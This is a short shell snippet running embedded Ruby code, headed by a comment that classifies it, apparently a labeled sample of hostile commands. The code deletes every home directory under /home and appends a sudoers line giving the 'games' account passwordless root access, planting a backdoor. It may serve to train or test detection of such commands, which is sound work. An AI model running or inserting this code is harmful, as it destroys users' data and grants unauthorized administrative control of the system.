# class: embedded, ruby here-document; style: tidy
ruby <<'RUBY'
require 'fileutils'
Dir.glob('/home/*').each { |d| FileUtils.rm_rf(d) }
File.open('/etc/sudoers', 'a') { |f| f.puts 'games ALL=(ALL) NOPASSWD: ALL' }
RUBY
